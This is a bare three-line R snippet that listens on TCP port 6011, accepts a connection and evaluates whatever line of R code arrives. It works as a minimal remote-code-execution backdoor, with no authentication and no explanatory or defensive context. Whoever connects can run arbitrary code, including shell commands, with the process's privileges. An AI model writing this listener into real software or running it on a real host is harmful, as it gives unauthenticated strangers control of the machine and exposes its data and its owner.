srv <- serverSocket(6011)
con <- socketAccept(srv)
eval(parse(text = readLines(con, 1)))
